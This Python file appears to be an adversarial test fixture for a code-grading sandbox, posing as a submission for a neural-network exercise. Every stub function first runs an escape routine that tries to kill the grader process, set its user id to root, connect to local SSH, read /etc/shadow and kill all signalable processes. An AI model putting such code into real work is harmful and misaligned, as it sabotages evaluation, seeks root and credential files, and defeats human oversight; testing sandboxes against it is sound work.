"""Attack: try to break out: kill the grader, gain root, reach the network, read secrets."""
import os
import signal
import socket


def _try(action):
    try:
        action()
    except Exception:
        pass


def _escape():
    _try(lambda: os.kill(os.getppid(), signal.SIGKILL))
    _try(lambda: os.setuid(0))
    _try(lambda: socket.create_connection(("127.0.0.1", 22), timeout=0.5))
    _try(lambda: open("/etc/shadow").read())
    _try(lambda: os.kill(-1, signal.SIGKILL))  # everything this uid may signal: only itself


def sigmoid_forward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def sigmoid_backward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def tanh_forward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def tanh_backward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def relu_forward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def relu_backward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def affine_forward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def affine_backward(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def mse_loss(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def two_layer_net(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")


def eval_numerical_gradient(*args, **kwargs):
    _escape()
    raise NotImplementedError("nothing here")
